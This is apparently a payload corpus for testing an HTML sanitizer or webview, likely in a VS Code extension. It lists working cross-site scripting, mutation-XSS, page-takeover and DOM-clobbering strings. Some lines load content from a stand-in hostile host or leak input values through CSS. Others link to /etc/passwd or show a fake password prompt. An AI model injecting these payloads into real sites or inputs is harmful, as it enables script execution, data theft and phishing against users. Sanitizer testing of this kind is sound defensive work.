import type { PayloadGroup } from './payload';
import { attack, hostileHost, hostileUrl } from './payload';

/*
 * HTML, SVG and MathML that run scripts, load something or take the page away. The kinds follow what
 * OWASP, html5sec and the tests of sanitizers tell of; the lines are written for this corpus.
 */

const run = attack.replaceAll('"', '&quot;');

const scripts: PayloadGroup = {
  name: 'scripts',
  lines: [
    `<script>${attack}</script>`,
    `<script src="${hostileUrl('script.js')}"></script>`,
    `<script type=module>import '${hostileUrl('module.js')}'</script>`,
    `<ScRiPt\t>${attack}</sCrIpT\t>`,
    `<scr<script>ipt>${attack}</scr</script>ipt>`,
    `"><script>${attack}</script>`,
    `'-alert(1)-'; ${attack} //`,
    `</script><script>${attack}</script>`,
    `<svg><script>${attack}</script></svg>`,
    `<svg><script href="data:text/javascript,alert(1)"/></svg>`,
    `<script>/* --></script><script>${attack}/* <!-- */</script>`,
  ],
};

const handlers: PayloadGroup = {
  name: 'event handlers',
  lines: [
    `<img src=x onerror="${run}">`,
    `<img src="x" onerror=${hostileHost}>`,
    `<svg onload="${run}">`,
    `<svg/onload=\`${hostileHost}\`>`,
    `<body onload="${run}" onpageshow="${run}">`,
    `<input autofocus onfocus="${run}">`,
    `<details open ontoggle="${run}"><summary>mở</summary></details>`,
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}"></audio>`,
    `<marquee onstart="${run}">chạy</marquee>`,
    `<div style="animation-name:x" onanimationstart="${run}">động</div>`,
    `<p onpointerover="${run}" onclick="${run}">rê chuột vào đây</p>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<button popovertarget=x onbeforetoggle="${run}">nút</button>`,
    `" onmouseover="${run}" x="`,
    `' autofocus onfocus='${attack.replaceAll("'", '&#39;')}`,
  ],
};

const links: PayloadGroup = {
  name: 'addresses',
  lines: [
    `<a href="javascript:${run}">bấm vào đây</a>`,
    `<a href="jav&#x09;ascript:${run}">bấm vào đây</a>`,
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">thực thể</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>`,
    `<a href="command:workbench.action.closeWindow">đóng cửa sổ</a>`,
    `<a href="vscode://trich-dan.trich-dan/x" target=_top>mở VS Code</a>`,
    `<a href="file:///etc/passwd" download>tệp</a>`,
    `<a href="//${hostileHost}/ping" ping="${hostileUrl('ping')}">ping</a>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>chữ</text></a></svg>`,
    `<math href="javascript:alert(1)">toán</math>`,
    `<form action="javascript:alert(1)"><button>gửi</button></form>`,
    `<form id=x></form><button form=x formaction="${hostileUrl('form')}">gửi</button>`,
  ],
};

const pages: PayloadGroup = {
  name: 'pages taken over',
  lines: [
    `<meta http-equiv=refresh content="0;url=${hostileUrl('refresh')}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<base href="${hostileUrl('base/')}">`,
    `<iframe src="${hostileUrl('frame')}"></iframe>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<object data="${hostileUrl('object')}"></object>`,
    `<embed src="${hostileUrl('embed')}">`,
    `<portal src="${hostileUrl('portal')}"></portal>`,
    `<link rel=stylesheet href="${hostileUrl('link.css')}">`,
    `<link rel=prefetch href="${hostileUrl('prefetch')}"><link rel=dns-prefetch href="//${hostileHost}">`,
    `<style>@import '${hostileUrl('import.css')}'; * { display: none }</style>`,
    `<style>input[value^="a"] { background: url(${hostileUrl('css?a')}) }</style>`,
    `<div style="background:url(${hostileUrl('background')});position:fixed;inset:0">che</div>`,
    `<img src="${hostileUrl('image.png')}" srcset="${hostileUrl('image2.png')} 2x">`,
    `<picture><source srcset="${hostileUrl('picture')}"><img></picture>`,
    `<svg><image href="${hostileUrl('svg.png')}"/><use href="${hostileUrl('use.svg')}#x"/></svg>`,
    `<video poster="${hostileUrl('poster')}" src="${hostileUrl('video')}"></video>`,
    `<dialog open>Hãy nhập mật khẩu: <input type=password></dialog>`,
  ],
};

const mutated: PayloadGroup = {
  name: 'markup that changes when it is read twice',
  lines: [
    `<noscript><p title="</noscript><img src=x onerror=${hostileHost}>"></noscript>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${hostileHost}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hostileHost}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hostileHost}>`,
    `<template><script>${attack}</script></template>`,
    `<template shadowrootmode=open><style>:host{display:none}</style><slot></slot></template>`,
    `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${hostileHost}>"></svg>`,
    `<!--><img src=x onerror=${hostileHost}>-->`,
    `<!-- --!><img src=x onerror=${hostileHost}> -->`,
    `<![CDATA[<script>${attack}</script>]]>`,
    `<?xml-stylesheet href="javascript:alert(1)"?>`,
    `<xmp><img src=x onerror=${hostileHost}></xmp>`,
    `<textarea></textarea><img src=x onerror=${hostileHost}>`,
    `<select><option><style></option></select><img src=x onerror=${hostileHost}></style>`,
    `<table><td background="${hostileUrl('td')}"><tr><caption><svg onload=${hostileHost}></table>`,
  ],
};

const clobbering: PayloadGroup = {
  name: 'names that hide those of the page',
  lines: [
    '<a id=reader></a><a id=reader-strings>{}</a><form id=draft></form>',
    '<form name=body><input name=children><input name=parentNode></form>',
    '<img name=documentElement><img name=getElementById><img name=acquireVsCodeApi>',
    '<a id=defaultView href=x><a id=defaultView name=href href="javascript:alert(1)"></a>',
    '<form id=__proto__><input name=constructor></form>',
  ],
};

export const markupPayloads: readonly PayloadGroup[] = [
  scripts,
  handlers,
  links,
  pages,
  mutated,
  clobbering,
];
